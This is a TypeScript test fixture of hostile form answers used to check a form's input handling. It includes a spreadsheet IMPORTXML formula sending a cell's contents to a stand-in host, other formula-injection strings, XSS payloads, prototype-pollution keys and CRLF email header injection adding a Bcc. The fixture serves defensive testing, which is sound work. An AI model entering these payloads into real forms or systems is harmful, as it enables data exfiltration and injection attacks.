/** Answers that must come through as typed, harm nothing, or be refused with a sentence. Somebody in a season types each of them. */

import type {Field} from './fields';

export interface HostileAnswer {
  /** What it tries. */
  readonly tries: string;
  readonly field: Field;
  readonly text: string;
}

const hostile = (tries: string, field: Field, text: string): HostileAnswer => ({tries, field, text});

export const HOSTILE_ANSWERS: readonly HostileAnswer[] = [
  hostile('a formula that sends a cell away', 'lastName', '=IMPORTXML("https://e.x/?"&A2,"//a")'),
  hostile('a formula with a plus', 'remarks', '+1+1'),
  hostile('a formula behind a tab', 'remarks', '\t=1+1'),
  hostile('a formula behind a blank', 'languageSkills', ' =1+1'),
  hostile('an apostrophe of its own', 'lastName', "'=1+1"),
  hostile('a phone number that looks like a sum', 'phone', '+32 470 12 34 56'),
  hostile('zeros in front', 'studentNumber', '007'),
  hostile('a fraction or a date', 'remarks', '1/2'),
  hostile('a number with an exponent', 'studentNumber', '1E5'),
  hostile('a truth value', 'languageSkills', 'TRUE'),
  hostile('a time', 'remarks', '10:30'),
  hostile('a script', 'firstName', '<script>alert(1)</script>'),
  hostile('an image with a handler', 'lastName', '<img src=x onerror=alert(1)>'),
  hostile('the end of a script inside data', 'remarks', '</script><script>alert(1)</script>'),
  hostile('a link that runs', 'remarks', 'javascript:alert(1)'),
  hostile('a placeholder', 'firstName', '{{email}}'),
  hostile('a placeholder inside a paragraph', 'remarks', 'Dear {{First name}}, {{Answers}} {{#each}} {{/if}}'),
  hostile('signs of a replacement', 'lastName', "$& $1 $$ $` $'"),
  hostile('line ends of JSON', 'remarks', 'one\u2028two\u2029three'),
  hostile('names of every object', 'lastName', '__proto__'),
  hostile('a name of every object', 'firstName', 'constructor'),
  hostile('a header in a subject', 'remarks', 'Hello\r\nBcc: all@x.be\r\n\r\n<b>body</b>'),
  hostile('ends of a cell', 'languageSkills', 'a\tb\nc\r\nd"e""f,g;h'),
  hostile('a text as long as a cell', 'remarks', 'é'.repeat(49_990)),
];

/** Addresses that a form takes which asks for them in a question of its own. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  'a@x.be\r\nBcc: all@x.be',
  'a@x.be,b@x.be',
  'a b@x.be',
  'nobody',
  '"Anna" <a@x.be>',
];

/** One character more than a cell holds: the form itself refuses it. */
export const TOO_LONG = 'x'.repeat(50_001);
